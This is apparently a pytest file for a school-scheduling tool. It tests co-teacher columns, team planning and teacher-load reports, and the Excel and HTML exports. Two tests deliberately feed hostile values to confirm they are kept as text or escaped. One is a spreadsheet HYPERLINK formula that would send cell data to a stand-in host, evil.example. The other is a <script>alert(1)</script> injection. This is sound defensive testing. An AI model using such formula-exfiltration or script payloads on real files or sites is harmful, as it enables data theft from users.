"""What a leader prints and pins up shows the adults of a co-taught, team-planning design (issue 14).

Story: in the mini school Ms Four (T04, art and music) co-teaches Math 6 with Mr One in period 1. On the wall
grid she has a column of her own saying where she is, and Mr One's cell names her, so nobody reads her period 1
as free. The printed report also gives the team's common planning period, every teacher's load and each request
the schedule could not place, with its reason. Someone else's IDs may be hostile: they stay text in the
workbook and escaped on the page, and the page loads nothing from anywhere else.
"""

from __future__ import annotations

import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from handmade import design

from workbench.app.tables import grid
from workbench.goals.students import section_details
from workbench.goals.teachers import teacher_load
from workbench.results.export import result_html, schedule_grid, to_excel

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def co_taught(mini, co_teacher: str = "T04"):
    """Hand-made design A of the mini school with Math 6 (M6-01, period 1, room R1) co-taught by `co_teacher`."""
    result = design(mini)
    result.sections["co_staff_id"] = ""
    result.sections.loc[result.sections["section_id"] == "M6-01", "co_staff_id"] = co_teacher
    return result


def test_the_wall_grid_gives_the_co_teacher_a_column_and_the_lead_cell_names_her(mini):
    wall = schedule_grid(co_taught(mini), mini).set_index("Period")
    assert wall.at[1, "T04"] == "co-teaches M6-01 · R1"
    assert wall.at[1, "T01"].startswith("M6-01 · R1 · ") and wall.at[1, "T01"].endswith(" · with T04")
    assert wall.at[3, "T04"].startswith("MUS-01 · R4")   # her own class is still there
    assert "with" not in wall.at[2, "T03"]               # a section nobody co-teaches is as before


def test_a_co_teacher_with_no_class_of_her_own_still_has_a_column(mini):
    wall = schedule_grid(co_taught(mini, co_teacher="SPED1"), mini).set_index("Period")
    assert wall.at[1, "SPED1"] == "co-teaches M6-01 · R1"
    assert set(wall["SPED1"].drop(index=[1, 5])) == {""}


def test_a_design_without_co_teachers_draws_the_grid_it_always_drew(mini):
    plain = design(mini)
    assert "co_staff_id" not in plain.sections.columns
    assert list(schedule_grid(plain, mini).columns) == ["Period", "T01", "T02", "T03", "T04"]


def test_the_apps_teacher_grid_has_a_row_for_the_co_teacher(mini):
    result = co_taught(mini, co_teacher="SPED1")
    rows = grid(section_details(mini, result), "staff_id", mini.periods).set_index("staff_id")
    assert rows.at["SPED1", "P1"] == "co-teaches M6-01 · R1"
    assert rows.at["T01", "P1"].endswith(" · with SPED1")


def formulas_in(book) -> int:
    with zipfile.ZipFile(book) as z:
        return sum(len(re.findall(rb"<f[ >]", z.read(n))) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_a_hostile_co_teacher_id_stays_text_in_the_workbook_and_escaped_on_the_page(mini, tmp_path):
    from openpyxl import load_workbook

    result = co_taught(mini, co_teacher=HYPERLINK)
    result.sections.loc[result.sections["section_id"] == "M6-01", "section_id"] = "<b>M6</b>"
    book = to_excel(result, tmp_path / "design.xlsx", mini)
    assert formulas_in(book) == 0
    sheet = load_workbook(book)["Schedule grid"]
    header = {c.value: c for c in sheet[1]}
    assert header[HYPERLINK].data_type == "s" and header[HYPERLINK].quotePrefix
    cells = [c.value for row in sheet.iter_rows(min_row=2) for c in row]
    assert "co-teaches <b>M6</b> · R1" in cells
    page = result_html(result, mini)
    assert "<b>M6</b>" not in page and "&lt;b&gt;M6&lt;/b&gt;" in page


# ---- the printed report: team planning, teacher load, requests not placed ------------------------------------

@pytest.fixture
def report_design(mini):
    """Design A with Mr One leading a team of Ms Two and Mr Three who plan together in period 3, and two
    requests the schedule could not place."""
    result = co_taught(mini)
    result.extra["team_planning"] = pd.DataFrame({"leader_id": ["T01", "T01", "T01"],
                                                  "staff_id": ["T01", "T02", "T03"], "periods": ["3", "3", "3"]})
    result.extra["unplaced_requests"] = pd.DataFrame({
        "student_id": ["S04", "S09"], "course_id": ["ART", "<script>alert(1)</script>"], "priority": [2, 3],
        "reason": ["ART meets in period 4 only, where the student has SCI", "no section of it was opened"]})
    return result


class Sections(HTMLParser):
    """The report's headings and every outside reference (href, src) a tag makes."""

    def __init__(self):
        super().__init__()
        self.headings, self.outside, self._in_h2 = [], [], False

    def handle_starttag(self, tag, attrs):
        self._in_h2 = tag == "h2"
        self.outside += [value for name, value in attrs if name in ("href", "src", "action")]

    def handle_data(self, data):
        if self._in_h2:
            self.headings.append(data)
            self._in_h2 = False


def test_the_report_gives_team_time_teacher_load_and_requests_not_placed(mini, report_design):
    page = result_html(report_design, mini)
    seen = Sections()
    seen.feed(page)
    assert {"Team planning time", "Teacher load", "Requests not placed, and why"} <= set(seen.headings)
    assert seen.outside == [] and "<script" not in page
    assert "<tr><td>T01</td><td>T02, T03</td><td>period 3</td></tr>" in page
    load = teacher_load(mini, report_design).set_index("staff_id")
    # Ms Four teaches art and music and co-teaches Math 6: three sections, one co-taught, in her row
    assert load.loc["T04", ["sections", "co_taught_sections"]].tolist() == [3, 1]
    assert ('<tr><td>T04</td><td>teacher</td><td class="num">3</td><td class="num">1</td>' in page)
    assert "<td>S04</td><td>ART</td><td>elective</td><td>ART meets in period 4 only" in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<td>alternate</td>" in page


def test_a_report_of_a_school_without_teams_or_unplaced_requests_says_only_what_it_has(mini):
    result = design(mini)
    result.extra["unplaced_requests"] = pd.DataFrame(columns=["student_id", "course_id", "priority", "reason"])
    page = result_html(result, mini)
    assert "Team planning time" not in page and "Every request is placed." in page
    assert "Teacher load" in page   # with the scenario at hand, every design shows what it asks of teachers
    assert "Teacher load" not in result_html(design(mini)) and "Requests not placed" not in result_html(design(mini))


def test_the_apps_schedule_page_offers_the_co_teacher_and_narrows_to_her_sections(tmp_path):
    """Served in the app, a school whose Math 6 is co-taught by Ms Five (T05, sped) lists her under Teacher;
    picking her shows the sections she co-teaches, in her own row of the period × teacher grid."""
    import shutil

    import panel as pn

    from workbench.app.state import Workbench
    from workbench.app.views import SchedulePage

    mini = Path(__file__).resolve().parent / "data" / "mini"
    folder = shutil.copytree(mini, tmp_path / "mini")
    courses = pd.read_csv(folder / "courses.csv", dtype=str, keep_default_na=False)
    courses["co_teacher_subject"] = (courses["course_id"] == "M6").map({True: "sped", False: ""})
    courses.to_csv(folder / "courses.csv", index=False)
    with open(folder / "staff.csv", "a", encoding="utf-8") as f:
        f.write("T05,teacher,sped,2,1,,3.0\n")
    yaml = folder / "scenario.yaml"
    yaml.write_text(yaml.read_text().replace("other_revenue: 400000", "other_revenue: 600000"), encoding="utf-8")
    wb = Workbench([folder])
    page = SchedulePage(wb=wb)
    drawn = pn.panel(page)
    drawn.get_root()
    assert wb.start_solve()
    wb.wait(120)
    assert wb.result is not None, wb.status
    hers = wb.result.sections[wb.result.sections["co_staff_id"] == "T05"]
    assert len(hers) >= 1
    teacher = next(w for w in drawn.select(pn.widgets.Select) if w.name == "Teacher")
    assert "T05" in teacher.options
    teacher.value = "T05"
    assert any(f"Period × teacher ({len(hers)} sections)" in str(m.object) for m in drawn.select(pn.pane.Markdown))
    grids = [t.value for t in drawn.select(pn.widgets.Tabulator)]
    rows = grids[0].set_index("staff_id")
    period = int(hers["period"].iloc[0])
    assert rows.at["T05", f"P{period}"] == f"co-teaches {hers['section_id'].iloc[0]} · {hers['room_id'].iloc[0]}"


def test_the_workbook_says_what_the_design_falls_short_of_on_a_sheet_after_the_summary(mini, tmp_path):
    # the solve's warnings (here: Math 6's second section left without its co-teacher) are the first thing a
    # leader reads after the figures, in the workbook as on the console; a design with none has no such sheet
    from openpyxl import load_workbook

    result = co_taught(mini)
    said = "MATH6-02 has no sped co-teacher: T04 teaches then (period 2)"
    result.summary = {**result.summary, "warnings": [said]}
    book = load_workbook(to_excel(result, tmp_path / "short.xlsx", mini))
    assert book.sheetnames[:2] == ["Summary", "Warnings"]
    assert [row[0] for row in book["Warnings"].iter_rows(values_only=True)] == ["Warning", said]
    plain = load_workbook(to_excel(design(mini), tmp_path / "plain.xlsx", mini))
    assert "Warnings" not in plain.sheetnames
